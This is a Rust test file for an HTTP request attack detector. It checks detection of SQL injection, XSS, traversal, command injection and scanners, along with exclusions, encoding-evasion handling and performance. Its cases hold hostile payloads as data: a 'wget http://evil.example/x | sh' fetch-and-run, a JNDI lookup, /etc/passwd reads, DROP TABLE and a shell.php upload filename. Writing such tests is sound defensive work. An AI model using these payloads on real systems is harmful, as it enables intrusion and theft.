//! Detector-level tests: each category, locations, exclusions, settings errors, weak-signal
//! scoring, robustness (proptest), and the per-request cost printed as information.

use std::time::Instant;

use http::{HeaderMap, HeaderValue};
use proptest::prelude::*;

use super::*;

fn detector() -> Detector {
    Detector::new(&DetectorSettings::default()).expect("default settings")
}

/// Ten ordinary browser headers.
fn browser_headers() -> HeaderMap {
    let mut h = HeaderMap::new();
    for (k, v) in [
        ("host", "app.example.com"),
        (
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        ),
        ("accept", "application/json, text/plain, */*"),
        ("accept-language", "en-US,en;q=0.5"),
        ("accept-encoding", "gzip, deflate, br"),
        ("connection", "keep-alive"),
        ("referer", "https://app.example.com/items?page=2"),
        (
            "cookie",
            "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark",
        ),
        (
            "authorization",
            "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
        ),
        ("sec-fetch-mode", "cors"),
    ] {
        h.insert(k, HeaderValue::from_static(v));
    }
    h
}

struct Req {
    path: &'static str,
    query: Option<&'static str>,
    headers: HeaderMap,
    body: Option<Vec<u8>>,
    content_type: Option<&'static str>,
}

impl Req {
    fn get(path: &'static str, query: Option<&'static str>) -> Req {
        Req {
            path,
            query,
            headers: browser_headers(),
            body: None,
            content_type: None,
        }
    }

    fn post(content_type: &'static str, body: &[u8]) -> Req {
        Req {
            path: "/api/v1/chat",
            query: None,
            headers: browser_headers(),
            body: Some(body.to_vec()),
            content_type: Some(content_type),
        }
    }

    fn header(mut self, name: &'static str, value: &str) -> Req {
        self.headers
            .insert(name, HeaderValue::from_str(value).expect("header"));
        self
    }

    fn run(&self, d: &Detector) -> Verdict {
        d.inspect(&Inspection {
            path: self.path,
            query: self.query,
            headers: &self.headers,
            body: self.body.as_deref(),
            content_type: self.content_type,
        })
    }
}

fn attack_at(v: &Verdict, location: &str) -> bool {
    v.is_attack(DEFAULT_THRESHOLD) && v.matches.iter().any(|m| m.location == location)
}

#[test]
fn detector_is_send_and_sync() {
    fn check<T: Send + Sync>() {}
    check::<Detector>();
}

#[test]
fn benign_request_is_clean() {
    let d = detector();
    let v = Req::get("/api/items/42", Some("page=2&sort=created_at&q=red+shoes")).run(&d);
    assert_eq!(v, Verdict::default());
    assert!(!v.is_attack(DEFAULT_THRESHOLD));
    assert!(v.top().is_none());
}

#[test]
fn each_category_is_detected() {
    let d = detector();
    let cases: [(&str, Category); 5] = [
        ("id=1%27%20OR%20%271%27%3D%271", Category::Sqli),
        ("q=%3Cscript%3Ealert(1)%3C/script%3E", Category::Xss),
        ("file=..%2F..%2F..%2Fetc%2Fpasswd", Category::Traversal),
        (
            "host=127.0.0.1%3Bcat+/etc/passwd",
            Category::CommandInjection,
        ),
        ("x=http://abc.burpcollaborator.net/", Category::Scanner),
    ];
    for (query, category) in cases {
        let query: &'static str = Box::leak(query.to_string().into_boxed_str());
        let v = Req::get("/search", Some(query)).run(&d);
        assert!(v.is_attack(DEFAULT_THRESHOLD), "{query}: {v:?}");
        assert!(
            v.matches
                .iter()
                .any(|m| m.category == category && m.score >= 10),
            "{query}: {v:?}"
        );
    }
    let v = Req::get("/", None)
        .header("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
        .run(&d);
    assert_eq!(
        v.top().map(|m| (m.rule, m.category)),
        Some(("scanner-user-agent", Category::Scanner))
    );
}

#[test]
fn category_names() {
    let names: Vec<_> = Category::ALL.iter().map(Category::as_str).collect();
    assert_eq!(names, ["sqli", "xss", "traversal", "cmdi", "scanner"]);
}

#[test]
fn locations_are_reported() {
    let d = detector();
    let v = Req::get("/files/..%2f..%2fetc/passwd", None).run(&d);
    assert!(attack_at(&v, "path"), "{v:?}");

    let v = Req::get(
        "/items",
        Some("page=1&id=1+UNION+SELECT+password+FROM+users"),
    )
    .run(&d);
    assert!(attack_at(&v, "query:id"), "{v:?}");

    let v = Req::get("/", None)
        .header("user-agent", "Mozilla/5.0 (compatible; Nikto/2.1.6)")
        .run(&d);
    assert!(attack_at(&v, "header:user-agent"), "{v:?}");

    let v = Req::get("/", None)
        .header("cookie", "theme=dark; session=%27%20or%201%3D1--")
        .run(&d);
    assert!(attack_at(&v, "cookie:session"), "{v:?}");

    let v = Req::get("/", None)
        .header("x-forwarded-host", "${jndi:ldap://evil.example/a}")
        .run(&d);
    assert!(attack_at(&v, "header:x-forwarded-host"), "{v:?}");

    let v = Req::get("/", None)
        .header(
            "referer",
            "https://evil.example/p?a=1&q=%3Csvg+onload%3Dalert(1)%3E",
        )
        .run(&d);
    assert!(attack_at(&v, "header:referer"), "{v:?}");

    let json = br#"{"user":{"name":"<img src=x onerror=alert(1)>","age":3},"items":["a","b","; wget http://evil.example/x | sh"]}"#;
    let v = Req::post("application/json; charset=utf-8", json).run(&d);
    assert!(attack_at(&v, "body:$.user.name"), "{v:?}");
    assert!(attack_at(&v, "body:$.items[2]"), "{v:?}");

    let json = br#"{"meta":{"' OR 1=1--":true}}"#;
    let v = Req::post("application/vnd.api+json", json).run(&d);
    assert!(v.is_attack(DEFAULT_THRESHOLD), "{v:?}");
    assert!(
        v.matches
            .iter()
            .all(|m| m.location.starts_with("body:$.meta[\"")),
        "{v:?}"
    );

    let v = Req::post(
        "application/x-www-form-urlencoded",
        b"name=alice&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    )
    .run(&d);
    assert!(attack_at(&v, "body:form:comment"), "{v:?}");

    let v = Req::post("text/plain", b"hello'; DROP TABLE users--").run(&d);
    assert!(attack_at(&v, "body"), "{v:?}");
}

fn multipart(file_name: &str, file_content: &[u8], text: &str) -> Vec<u8> {
    let mut b = Vec::new();
    b.extend_from_slice(
        format!(
            "--XyZ\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n{text}\r\n--XyZ\r\n\
             Content-Disposition: form-data; name=\"file\"; filename=\"{file_name}\"\r\n\
             Content-Type: application/octet-stream\r\n\r\n"
        )
        .as_bytes(),
    );
    b.extend_from_slice(file_content);
    b.extend_from_slice(b"\r\n--XyZ--\r\n");
    b
}

#[test]
fn multipart_text_parts_and_file_names_but_not_file_contents() {
    let d = detector();
    let ct = "multipart/form-data; boundary=XyZ";
    let body = multipart(
        "photo.png",
        b"<script>alert(1)</script>' or '1'='1",
        "nice photo",
    );
    assert_eq!(Req::post(ct, &body).run(&d).score, 0);

    let body = multipart("../../../var/www/shell.php", b"GIF89a", "hi");
    let v = Req::post(ct, &body).run(&d);
    assert!(attack_at(&v, "body:multipart:file"), "{v:?}");

    let body = multipart("a.png", b"\x89PNG", "<svg onload=alert(1)>");
    let v = Req::post(ct, &body).run(&d);
    assert!(attack_at(&v, "body:multipart:comment"), "{v:?}");

    let quoted = "multipart/form-data; boundary=\"XyZ\"";
    assert!(
        Req::post(quoted, &body)
            .run(&d)
            .is_attack(DEFAULT_THRESHOLD)
    );
}

#[test]
fn other_bodies_only_when_small_utf8_text() {
    let d = detector();
    let attack = b"<script>alert(1)</script>";
    assert!(
        Req::post("application/xml", attack)
            .run(&d)
            .is_attack(DEFAULT_THRESHOLD)
    );
    // Not UTF-8: skipped.
    let mut binary = attack.to_vec();
    binary.push(0xff);
    assert_eq!(
        Req::post("application/octet-stream", &binary).run(&d).score,
        0
    );
    // 64 KiB or more: skipped.
    let mut big = vec![b'a'; body::TEXT_LIMIT];
    big.extend_from_slice(attack);
    assert_eq!(Req::post("text/plain", &big).run(&d).score, 0);
    // Invalid JSON is inspected as text.
    assert!(
        Req::post("application/json", b"{\"a\": <script>")
            .run(&d)
            .is_attack(DEFAULT_THRESHOLD)
    );
}

#[test]
fn weak_signals_need_to_combine() {
    let d = detector();
    for q in [
        "q=it%27s",
        "q=a+%3C+b",
        "q=select",
        "q=I%27d+like+to+select+the+best+option%3B+it%27s+50%25+off+--+really",
        "q=%3Cb%3Ehi%3C%2Fb%3E",
    ] {
        let query: &'static str = Box::leak(q.to_string().into_boxed_str());
        let v = Req::get("/s", Some(query)).run(&d);
        assert!(!v.is_attack(DEFAULT_THRESHOLD), "{q}: {v:?}");
    }
    let v = Req::get("/s", Some("q=it%27s")).run(&d);
    assert_eq!(v.top().map(|m| (m.rule, m.score)), Some(("sqli-quote", 2)));
    // A quote and a comment right after it combine.
    let v = Req::get("/s", Some("user=admin%27--")).run(&d);
    assert!(v.is_attack(DEFAULT_THRESHOLD), "{v:?}");
    assert_eq!(v.score, 2 + 8);
    assert_eq!(v.top().map(|m| m.rule), Some("sqli-comment-after-quote"));
    // Weak signals in different values do not add up.
    let v = Req::get("/s", Some("a=it%27s&b=select&c=%3Cb%3E")).run(&d);
    assert!(v.score < DEFAULT_THRESHOLD, "{v:?}");
    assert_eq!(v.matches.len(), 3);
}

#[test]
fn verdict_threshold_and_top() {
    let v = Verdict {
        score: 7,
        matches: vec![
            Match {
                rule: "a",
                category: Category::Sqli,
                location: "path".into(),
                score: 2,
            },
            Match {
                rule: "b",
                category: Category::Xss,
                location: "path".into(),
                score: 5,
            },
        ],
    };
    assert!(v.is_attack(7) && v.is_attack(1) && !v.is_attack(8));
    assert_eq!(v.top().map(|m| m.rule), Some("b"));
    assert!(!Verdict::default().is_attack(0));
}

#[test]
fn skipped_headers_and_tokens() {
    let d = detector();
    let v = Req::get("/", None)
        .header("authorization", "Basic ' or 1=1-- <script>")
        .header("accept", "text/html; q=<script>alert(1)</script>")
        .header(
            "x-api-token",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abc123",
        )
        .run(&d);
    assert_eq!(v, Verdict::default());
}

#[test]
fn decoding_tricks_are_seen_through() {
    let d = detector();
    for q in [
        "q=%253Cscript%253E",                // double URL encoding
        "q=%26lt%3Bscript%26gt%3B",          // HTML entities inside URL encoding
        "q=%EF%BC%9Cscript%EF%BC%9E",        // fullwidth < >
        "q=%5Cu003cscript%5Cu003e",          // \u escapes
        "q=1/**/UNION/**/SELECT/**/1",       // comments as whitespace
        "q=uNiOn%09%0BsElEcT+1",             // case and odd whitespace
        "f=..%c0%af..%c0%afetc%c0%afpasswd", // overlong UTF-8
        "f=report.pdf%00.txt",               // null byte
    ] {
        let query: &'static str = Box::leak(q.to_string().into_boxed_str());
        let v = Req::get("/s", Some(query)).run(&d);
        assert!(v.is_attack(DEFAULT_THRESHOLD), "{q}: {v:?}");
    }
}

#[test]
fn excluded_paths_are_segment_aware_and_not_bypassable() {
    let settings = DetectorSettings {
        exclude_paths: vec!["/health".into(), "/webhooks/".into()],
        ..Default::default()
    };
    let d = Detector::new(&settings).expect("settings");
    let q = Some("q=%3Cscript%3E");
    assert_eq!(Req::get("/health", q).run(&d).score, 0);
    assert_eq!(Req::get("/health/live", q).run(&d).score, 0);
    assert_eq!(Req::get("/webhooks/stripe", q).run(&d).score, 0);
    assert!(Req::get("/healthz", q).run(&d).is_attack(DEFAULT_THRESHOLD));
    assert!(
        Req::get("/health/../admin", q)
            .run(&d)
            .is_attack(DEFAULT_THRESHOLD)
    );
    assert!(
        Req::get("/health/%2e%2e/admin", q)
            .run(&d)
            .is_attack(DEFAULT_THRESHOLD)
    );
    assert!(
        Req::get("/health//x", q)
            .run(&d)
            .is_attack(DEFAULT_THRESHOLD)
    );
}

#[test]
fn excluded_params_everywhere() {
    let settings = DetectorSettings {
        exclude_params: vec!["Prompt".into(), "x-raw".into(), "draft".into()],
        ..Default::default()
    };
    let d = Detector::new(&settings).expect("settings");
    let attack = "<script>alert(1)</script>";
    assert_eq!(Req::get("/", Some("prompt=%3Cscript%3E")).run(&d).score, 0);
    assert!(
        Req::get("/", Some("other=%3Cscript%3E"))
            .run(&d)
            .is_attack(DEFAULT_THRESHOLD)
    );
    assert_eq!(Req::get("/", None).header("x-raw", attack).run(&d).score, 0);
    assert_eq!(
        Req::get("/", None)
            .header("cookie", "draft=%3Cscript%3E")
            .run(&d)
            .score,
        0
    );
    let json = br#"{"PROMPT":{"text":"<script>alert(1)</script>","n":["' or 1=1--"]},"ok":"fine"}"#;
    assert_eq!(Req::post("application/json", json).run(&d).score, 0);
    let form = b"prompt=%3Cscript%3E&x=1";
    assert_eq!(
        Req::post("application/x-www-form-urlencoded", form)
            .run(&d)
            .score,
        0
    );
    let body = multipart("a.png", b"", attack);
    let body = String::from_utf8(body)
        .expect("utf8")
        .replace("name=\"comment\"", "name=\"draft\"");
    assert_eq!(
        Req::post("multipart/form-data; boundary=XyZ", body.as_bytes())
            .run(&d)
            .score,
        0
    );
}

#[test]
fn disabled_rules_and_categories() {
    let q = Some("a=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    let d = Detector::new(&DetectorSettings {
        disabled_rules: vec!["xss".into()],
        ..Default::default()
    })
    .expect("settings");
    assert!(
        Req::get("/", q)
            .run(&d)
            .matches
            .iter()
            .all(|m| m.category != Category::Xss)
    );
    let d = Detector::new(&DetectorSettings {
        disabled_rules: vec!["xss-script-tag".into()],
        ..Default::default()
    })
    .expect("settings");
    let v = Req::get("/", q).run(&d);
    assert!(
        v.matches.iter().all(|m| m.rule != "xss-script-tag"),
        "{v:?}"
    );
    assert!(v.matches.iter().any(|m| m.rule == "xss-js-call"), "{v:?}");
}

#[test]
fn bad_settings_name_the_setting() {
    let err = |s: DetectorSettings| Detector::new(&s).err().expect("must fail");
    let e = err(DetectorSettings {
        disabled_rules: vec!["sqlx".into()],
        ..Default::default()
    });
    assert!(e.contains("disabled_rules") && e.contains("sqlx"), "{e}");
    let e = err(DetectorSettings {
        exclude_paths: vec!["health".into()],
        ..Default::default()
    });
    assert!(e.contains("exclude_paths") && e.contains("health"), "{e}");
    let e = err(DetectorSettings {
        exclude_params: vec![" ".into()],
        ..Default::default()
    });
    assert!(e.contains("exclude_params"), "{e}");
}

#[test]
fn long_names_in_locations_are_truncated_and_escaped() {
    let d = detector();
    let name = format!("{}\"x", "a".repeat(100));
    let query: &'static str = Box::leak(format!("{name}=%3Cscript%3E").into_boxed_str());
    let v = Req::get("/", Some(query)).run(&d);
    let loc = &v.top().expect("match").location;
    assert_eq!(loc, &format!("query:{}", "a".repeat(64)));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]
    #[test]
    fn inspect_never_panics(
        path in ".{0,80}",
        query in proptest::option::of(".{0,120}"),
        body in proptest::option::of(proptest::collection::vec(any::<u8>(), 0..300)),
        content_type in proptest::option::of(prop_oneof![
            Just("application/json".to_string()),
            Just("application/x-www-form-urlencoded".to_string()),
            Just("multipart/form-data; boundary=b".to_string()),
            Just("multipart/form-data".to_string()),
            Just("text/plain".to_string()),
            ".{0,40}",
        ]),
        header in "[ -~]{0,60}",
    ) {
        let d = detector();
        let mut headers = browser_headers();
        if let Ok(v) = HeaderValue::from_str(&header) {
            headers.insert("x-anything", v.clone());
            headers.insert("cookie", v);
        }
        let v = d.inspect(&Inspection {
            path: &path,
            query: query.as_deref(),
            headers: &headers,
            body: body.as_deref(),
            content_type: content_type.as_deref(),
        });
        prop_assert!(v.matches.iter().map(|m| m.score).max().unwrap_or(0) <= v.score);
    }

    #[test]
    fn multipart_with_arbitrary_parts_never_panics(parts in proptest::collection::vec(".{0,40}", 0..5)) {
        let d = detector();
        let body = parts.join("\r\n--b\r\n");
        let v = Req::post("multipart/form-data; boundary=b", format!("--b\r\n{body}").as_bytes()).run(&d);
        prop_assert!(v.score < 1000);
    }
}

/// Prints the cost of `inspect` per request as information (no assertion: timing depends on
/// the machine and the build profile; run with `--release -- --nocapture cost`).
fn report_cost(name: &str, req: &Req) {
    let d = detector();
    let rounds = if cfg!(debug_assertions) {
        2_000u32
    } else {
        50_000
    };
    let started = Instant::now();
    let mut score = 0;
    for _ in 0..rounds {
        score += std::hint::black_box(req.run(&d)).score;
    }
    let per = started.elapsed().as_secs_f64() * 1e9 / f64::from(rounds);
    println!("(information) {name}: {per:.0} ns per request (score {score})");
}

#[test]
fn benign_request_cost() {
    let req = Req::get("/api/items/42", Some("page=2&sort=created_at&q=red+shoes"));
    report_cost("benign GET, 10 headers", &req);
}

#[test]
fn json_request_cost() {
    let json = br#"{"model":"gpt-4o-mini","messages":[{"role":"system","content":"You are a helpful assistant."},{"role":"user","content":"I'd like to compare two laptops for programming -- which one's better value for money, the 14\" or the 16\"? Budget is about $1,500."}],"temperature":0.7,"stream":true}"#;
    report_cost(
        "chat JSON POST, 10 headers",
        &Req::post("application/json", json),
    );
}
